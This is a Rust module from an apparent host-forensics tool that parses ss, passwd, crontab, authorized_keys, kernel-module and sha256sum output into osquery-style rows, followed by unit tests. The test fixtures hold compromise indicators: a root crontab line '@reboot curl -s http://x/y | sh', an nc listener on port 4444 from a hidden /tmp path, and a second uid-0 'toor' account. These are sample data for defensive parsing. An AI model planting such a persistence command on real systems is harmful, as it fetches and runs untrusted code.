//! Reading a query's raw output into rows, per [`OutputFormat`].
//!
//! Parsers are strict about structure (a JSON payload that is not an array of
//! objects is an error) and lenient about content (bytes that are not UTF-8 are
//! replaced, unknown extra fields are kept). Rows use osquery's column names so
//! that the shell pack and the osquery pack describe a host the same way.

use std::borrow::Cow;

use crate::query::{OutputFormat, Row};

/// Why a query's output could not be read as its format.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[error("{0}")]
pub struct ParseError(pub String);

impl OutputFormat {
    /// Reads `raw` into rows.
    pub fn parse(self, raw: &[u8]) -> Result<Vec<Row>, ParseError> {
        let text = String::from_utf8_lossy(raw);
        match self {
            OutputFormat::Json => parse_json(&text),
            OutputFormat::Lines => Ok(lines(&text).map(|l| row([("line", l)])).collect()),
            OutputFormat::Tsv => parse_tsv(&text),
            OutputFormat::Ss => parse_ss(&text),
            OutputFormat::ProcModules => parse_proc_modules(&text),
            OutputFormat::Passwd => parse_passwd(&text),
            OutputFormat::Crontab => parse_crontab(&text),
            OutputFormat::AuthorizedKeys => parse_authorized_keys(&text),
            OutputFormat::Sha256sum => parse_sha256sum(&text),
        }
    }
}

fn row<'a, I: IntoIterator<Item = (&'a str, &'a str)>>(pairs: I) -> Row {
    pairs.into_iter().map(|(k, v)| (k.to_string(), v.to_string())).collect()
}

fn lines(text: &str) -> impl Iterator<Item = &str> {
    text.lines().map(|l| l.strip_suffix('\r').unwrap_or(l)).filter(|l| !l.trim().is_empty())
}

/// Turns a JSON scalar into the string osquery would print.
pub fn json_value_to_string(v: &serde_json::Value) -> Cow<'_, str> {
    match v {
        serde_json::Value::String(s) => Cow::Borrowed(s),
        serde_json::Value::Null => Cow::Borrowed(""),
        other => Cow::Owned(other.to_string()),
    }
}

fn parse_json(text: &str) -> Result<Vec<Row>, ParseError> {
    if text.trim().is_empty() {
        return Err(ParseError("the output is empty; expected a JSON array of objects".into()));
    }
    let value: serde_json::Value =
        serde_json::from_str(text).map_err(|e| ParseError(format!("the output is not valid JSON: {e}")))?;
    let serde_json::Value::Array(items) = value else {
        return Err(ParseError("the output is JSON but not an array of objects".into()));
    };
    items
        .iter()
        .enumerate()
        .map(|(i, item)| match item {
            serde_json::Value::Object(map) => {
                Ok(map.iter().map(|(k, v)| (k.clone(), json_value_to_string(v).into_owned())).collect())
            }
            _ => Err(ParseError(format!("element {i} of the JSON array is not an object"))),
        })
        .collect()
}

fn parse_tsv(text: &str) -> Result<Vec<Row>, ParseError> {
    let mut it = lines(text);
    let Some(header) = it.next() else {
        return Err(ParseError("the output is empty; expected a header line of column names".into()));
    };
    let columns: Vec<&str> = header.split('\t').collect();
    if columns.iter().any(|c| c.is_empty()) {
        return Err(ParseError(format!("the header line {header:?} has an empty column name")));
    }
    Ok(it
        .map(|line| {
            let mut fields = line.splitn(columns.len(), '\t');
            columns.iter().map(|c| (c.to_string(), fields.next().unwrap_or("").to_string())).collect()
        })
        .collect())
}

/// Splits `host:port` as `ss` prints it: `0.0.0.0:22`, `[::]:22`, `*:22`,
/// `127.0.0.53%lo:53`, `[::ffff:127.0.0.1]:80`.
fn split_endpoint(ep: &str) -> Option<(String, &str)> {
    let (addr, port) = ep.rsplit_once(':')?;
    let addr = addr.trim_start_matches('[').trim_end_matches(']');
    let addr = addr.split_once('%').map_or(addr, |(a, _)| a);
    let addr = if addr == "*" { "0.0.0.0" } else { addr };
    Some((addr.to_string(), port))
}

/// Reads `("name",pid=1,fd=3),("name",pid=2,fd=4)` from a `users:(...)` field.
fn ss_processes(field: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut rest = field;
    while let Some(start) = rest.find("((").or_else(|| rest.find(",(")) {
        rest = &rest[start + 2..];
        let Some(name_end) = rest.strip_prefix('"').and_then(|r| r.find('"')) else { break };
        let name = &rest[1..=name_end];
        rest = &rest[name_end + 2..];
        let pid = rest.split([',', ')']).find_map(|kv| kv.strip_prefix("pid=")).unwrap_or("").to_string();
        out.push((name.to_string(), pid));
    }
    out
}

fn parse_ss(text: &str) -> Result<Vec<Row>, ParseError> {
    let mut exe = std::collections::HashMap::new();
    let mut sockets = Vec::new();
    for line in lines(text) {
        if let Some(rest) = line.strip_prefix("exe\t") {
            if let Some((pid, path)) = rest.split_once('\t') {
                exe.insert(pid.to_string(), path.to_string());
            }
            continue;
        }
        let fields: Vec<&str> = line.split_whitespace().collect();
        if fields.first() == Some(&"Netid") {
            continue; // header of an `ss` without -H
        }
        if fields.len() < 6 {
            return Err(ParseError(format!("unexpected ss line {line:?}")));
        }
        let protocol = match fields[0] {
            "tcp" => "6",
            "udp" => "17",
            other => other,
        };
        let Some((address, port)) = split_endpoint(fields[4]) else {
            return Err(ParseError(format!("unexpected local address {:?} in ss line {line:?}", fields[4])));
        };
        let family = if address.contains(':') { "10" } else { "2" };
        let procs = fields.get(6..).map(|f| ss_processes(&f.join(" "))).unwrap_or_default();
        sockets.push((protocol.to_string(), family, address, port.to_string(), procs));
    }
    let mut rows = Vec::new();
    for (protocol, family, address, port, procs) in sockets {
        let base = row([
            ("protocol", protocol.as_str()),
            ("family", family),
            ("address", address.as_str()),
            ("port", port.as_str()),
        ]);
        if procs.is_empty() {
            let mut r = base.clone();
            for c in ["pid", "name", "path"] {
                r.insert(c.into(), String::new());
            }
            rows.push(r);
        }
        for (name, pid) in procs {
            let mut r = base.clone();
            r.insert("path".into(), exe.get(&pid).cloned().unwrap_or_default());
            r.insert("pid".into(), pid);
            r.insert("name".into(), name);
            rows.push(r);
        }
    }
    Ok(rows)
}

fn parse_proc_modules(text: &str) -> Result<Vec<Row>, ParseError> {
    lines(text)
        .map(|line| {
            let f: Vec<&str> = line.split_whitespace().collect();
            if f.len() < 5 {
                return Err(ParseError(format!("unexpected /proc/modules line {line:?}")));
            }
            Ok(row([
                ("name", f[0]),
                ("size", f[1]),
                ("used_by", f[3].trim_end_matches(',')),
                ("status", f[4]),
                ("address", f.get(5).copied().unwrap_or("")),
            ]))
        })
        .collect()
}

fn parse_passwd(text: &str) -> Result<Vec<Row>, ParseError> {
    lines(text)
        .filter(|l| !l.starts_with('#') && !l.starts_with('+') && !l.starts_with('-'))
        .map(|line| {
            let f: Vec<&str> = line.splitn(7, ':').collect();
            if f.len() != 7 {
                return Err(ParseError(format!("unexpected passwd line {line:?}")));
            }
            Ok(row([
                ("username", f[0]),
                ("uid", f[2]),
                ("gid", f[3]),
                ("description", f[4]),
                ("directory", f[5]),
                ("shell", f[6]),
            ]))
        })
        .collect()
}

/// Splits off `n` whitespace-separated fields and returns them with the rest.
fn split_fields(line: &str, n: usize) -> Option<(Vec<&str>, &str)> {
    let mut fields = Vec::with_capacity(n);
    let mut rest = line.trim_start();
    for _ in 0..n {
        let end = rest.find(char::is_whitespace)?;
        fields.push(&rest[..end]);
        rest = rest[end..].trim_start();
    }
    Some((fields, rest))
}

fn parse_crontab(text: &str) -> Result<Vec<Row>, ParseError> {
    let mut rows = Vec::new();
    for line in lines(text) {
        let (path, entry) = line.split_once('\t').unwrap_or(("", line));
        let entry = entry.trim();
        if entry.starts_with('#') || entry.is_empty() {
            continue;
        }
        // Environment assignments such as SHELL=/bin/sh or MAILTO="".
        let first = entry.split_whitespace().next().unwrap_or("");
        if first.contains('=')
            && !first.starts_with('@')
            && !first.starts_with(|c: char| c.is_ascii_digit() || c == '*')
        {
            continue;
        }
        let mut r = row([("path", path)]);
        if let Some(event) = first.strip_prefix('@') {
            let command = entry[first.len()..].trim_start();
            r.insert("event".into(), format!("@{event}"));
            for c in ["minute", "hour", "day_of_month", "month", "day_of_week"] {
                r.insert(c.into(), String::new());
            }
            r.insert("command".into(), command.to_string());
        } else {
            let Some((f, command)) = split_fields(entry, 5) else {
                return Err(ParseError(format!("unexpected crontab line {entry:?} in {path:?}")));
            };
            r.insert("event".into(), String::new());
            for (c, v) in ["minute", "hour", "day_of_month", "month", "day_of_week"].iter().zip(f) {
                r.insert((*c).into(), v.to_string());
            }
            r.insert("command".into(), command.to_string());
        }
        // osquery's shape: the command's runs of spaces and tabs are one space.
        if let Some(c) = r.get_mut("command") {
            *c = c.split([' ', '\t']).filter(|w| !w.is_empty()).collect::<Vec<_>>().join(" ");
        }
        rows.push(r);
    }
    Ok(rows)
}

fn is_key_type(t: &str) -> bool {
    t.starts_with("ssh-") || t.starts_with("ecdsa-") || t.starts_with("sk-")
}

/// Splits an `authorized_keys` line into options, algorithm, key and comment.
fn split_key_line(line: &str) -> (String, &str, &str, &str) {
    let line = line.trim();
    let (options, rest) = if line.split_whitespace().next().is_some_and(is_key_type) {
        (String::new(), line)
    } else {
        // Options end at the first space outside double quotes.
        let mut quoted = false;
        let mut end = line.len();
        for (i, c) in line.char_indices() {
            match c {
                '"' => quoted = !quoted,
                c if c.is_whitespace() && !quoted => {
                    end = i;
                    break;
                }
                _ => {}
            }
        }
        (line[..end].to_string(), line[end..].trim_start())
    };
    let mut parts = rest.splitn(3, char::is_whitespace);
    let algorithm = parts.next().unwrap_or("");
    let key = parts.next().unwrap_or("");
    let comment = parts.next().unwrap_or("").trim();
    (options, algorithm, key, comment)
}

fn parse_authorized_keys(text: &str) -> Result<Vec<Row>, ParseError> {
    let mut rows = Vec::new();
    for line in lines(text) {
        let f: Vec<&str> = line.splitn(4, '\t').collect();
        if f.len() != 4 {
            return Err(ParseError(format!("unexpected authorized_keys record {line:?}")));
        }
        let entry = f[3].trim();
        if entry.is_empty() || entry.starts_with('#') {
            continue;
        }
        let (options, algorithm, key, comment) = split_key_line(entry);
        rows.push(row([
            ("uid", f[0]),
            ("username", f[1]),
            ("key_file", f[2]),
            ("options", options.as_str()),
            ("algorithm", algorithm),
            ("key", key),
            ("comment", comment),
        ]));
    }
    Ok(rows)
}

fn parse_sha256sum(text: &str) -> Result<Vec<Row>, ParseError> {
    lines(text)
        .map(|line| {
            // GNU sha256sum prefixes the line with '\' when it escaped the name.
            let (escaped, line) = match line.strip_prefix('\\') {
                Some(rest) => (true, rest),
                None => (false, line),
            };
            let Some((hash, rest)) = line.split_once(' ') else {
                return Err(ParseError(format!("unexpected sha256sum line {line:?}")));
            };
            if hash.len() != 64 || !hash.bytes().all(|b| b.is_ascii_hexdigit()) {
                return Err(ParseError(format!("unexpected sha256sum line {line:?}")));
            }
            let path = rest.strip_prefix(' ').or_else(|| rest.strip_prefix('*')).unwrap_or(rest);
            let path = if escaped { path.replace("\\n", "\n").replace("\\\\", "\\") } else { path.to_string() };
            Ok(row([("path", path.as_str()), ("sha256", &hash.to_ascii_lowercase())]))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn get<'a>(r: &'a Row, c: &str) -> &'a str {
        r.get(c).map(String::as_str).unwrap_or_else(|| panic!("no column {c} in {r:?}"))
    }

    #[test]
    fn json_rows_stringify_scalars() {
        let rows = OutputFormat::Json.parse(br#"[{"pid":"1","n":2,"b":true,"z":null}]"#).unwrap();
        assert_eq!(get(&rows[0], "n"), "2");
        assert_eq!(get(&rows[0], "b"), "true");
        assert_eq!(get(&rows[0], "z"), "");
        assert!(OutputFormat::Json.parse(b"not json").unwrap_err().0.contains("not valid JSON"));
        assert!(OutputFormat::Json.parse(b"{}").unwrap_err().0.contains("not an array"));
        assert!(OutputFormat::Json.parse(b"").unwrap_err().0.contains("empty"));
        assert!(OutputFormat::Json.parse(b"[1]").unwrap_err().0.contains("not an object"));
    }

    #[test]
    fn non_utf8_is_replaced_not_fatal() {
        let rows = OutputFormat::Lines.parse(b"ok\n\xff\xfe bad\n").unwrap();
        assert_eq!(rows.len(), 2);
        assert_eq!(get(&rows[1], "line"), "\u{fffd}\u{fffd} bad");
    }

    #[test]
    fn ss_with_processes_and_exe_map() {
        let out = "tcp   LISTEN 0      128          0.0.0.0:22        0.0.0.0:*    users:((\"sshd\",pid=812,fd=3))\n\
                   tcp   LISTEN 0      4096            [::]:4444          [::]:*    users:((\"x y\",pid=99,fd=3),(\"nc\",pid=100,fd=3))\n\
                   udp   UNCONN 0      0      127.0.0.53%lo:53          0.0.0.0:*\n\
                   exe\t812\t/usr/sbin/sshd\n\
                   exe\t99\t/tmp/.x/x y\n";
        let rows = OutputFormat::Ss.parse(out.as_bytes()).unwrap();
        assert_eq!(rows.len(), 4);
        assert_eq!(get(&rows[0], "address"), "0.0.0.0");
        assert_eq!(get(&rows[0], "path"), "/usr/sbin/sshd");
        assert_eq!(get(&rows[0], "protocol"), "6");
        assert_eq!(get(&rows[1], "address"), "::");
        assert_eq!(get(&rows[1], "family"), "10");
        assert_eq!(get(&rows[1], "name"), "x y");
        assert_eq!(get(&rows[1], "path"), "/tmp/.x/x y");
        assert_eq!(get(&rows[2], "name"), "nc");
        assert_eq!(get(&rows[3], "address"), "127.0.0.53");
        assert_eq!(get(&rows[3], "protocol"), "17");
        assert_eq!(get(&rows[3], "pid"), "");
    }

    #[test]
    fn proc_modules_and_passwd() {
        let m = OutputFormat::ProcModules
            .parse(b"nf_tables 286720 0 - Live 0xffffffffc0a00000\nx_tables 53248 3 ip_tables,xt_a, Live 0x0000000000000000\n")
            .unwrap();
        assert_eq!(get(&m[1], "used_by"), "ip_tables,xt_a");
        assert_eq!(get(&m[0], "status"), "Live");
        let p = OutputFormat::Passwd.parse(b"root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/sh\n").unwrap();
        assert_eq!(get(&p[1], "username"), "toor");
        assert_eq!(get(&p[1], "uid"), "0");
        assert!(OutputFormat::Passwd.parse(b"broken line\n").is_err());
    }

    #[test]
    fn crontab_lines() {
        let out = "/etc/crontab\tSHELL=/bin/sh\n\
                   /etc/crontab\t# comment\n\
                   /etc/crontab\t17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n\
                   /var/spool/cron/crontabs/root\t@reboot curl -s http://x/y | sh\n";
        let rows = OutputFormat::Crontab.parse(out.as_bytes()).unwrap();
        assert_eq!(rows.len(), 2);
        assert_eq!(get(&rows[0], "minute"), "17");
        assert_eq!(
            get(&rows[0], "command"),
            "root cd / && run-parts --report /etc/cron.hourly",
            "spaces collapsed, as osquery does"
        );
        assert_eq!(get(&rows[1], "event"), "@reboot");
        assert_eq!(get(&rows[1], "command"), "curl -s http://x/y | sh");
    }

    #[test]
    fn authorized_keys_with_options() {
        let out = "0\troot\t/root/.ssh/authorized_keys\tssh-ed25519 AAAAC3Nz root@kali\n\
                   1000\tadmin\t/home/admin/.ssh/authorized_keys\tfrom=\"10.0.0.1,10.0.0.2\",no-pty ssh-rsa AAAAB3 admin key\n\
                   1000\tadmin\t/home/admin/.ssh/authorized_keys\t# old key\n";
        let rows = OutputFormat::AuthorizedKeys.parse(out.as_bytes()).unwrap();
        assert_eq!(rows.len(), 2);
        assert_eq!(get(&rows[0], "algorithm"), "ssh-ed25519");
        assert_eq!(get(&rows[0], "comment"), "root@kali");
        assert_eq!(get(&rows[1], "options"), "from=\"10.0.0.1,10.0.0.2\",no-pty");
        assert_eq!(get(&rows[1], "key"), "AAAAB3");
        assert_eq!(get(&rows[1], "comment"), "admin key");
    }

    #[test]
    fn sha256sum_lines() {
        let h = "a".repeat(64);
        let out = format!("{h}  /usr/bin/sudo\n\\{h}  /tmp/odd\\nname\n");
        let rows = OutputFormat::Sha256sum.parse(out.as_bytes()).unwrap();
        assert_eq!(get(&rows[0], "path"), "/usr/bin/sudo");
        assert_eq!(get(&rows[1], "path"), "/tmp/odd\nname");
        assert!(OutputFormat::Sha256sum.parse(b"zz  /x\n").is_err());
    }

    #[test]
    fn tsv_pads_and_keeps_tabs_in_last_column() {
        let rows = OutputFormat::Tsv.parse(b"a\tb\tc\n1\t2\n1\t2\t3\t4\n").unwrap();
        assert_eq!(get(&rows[0], "c"), "");
        assert_eq!(get(&rows[1], "c"), "3\t4");
    }
}
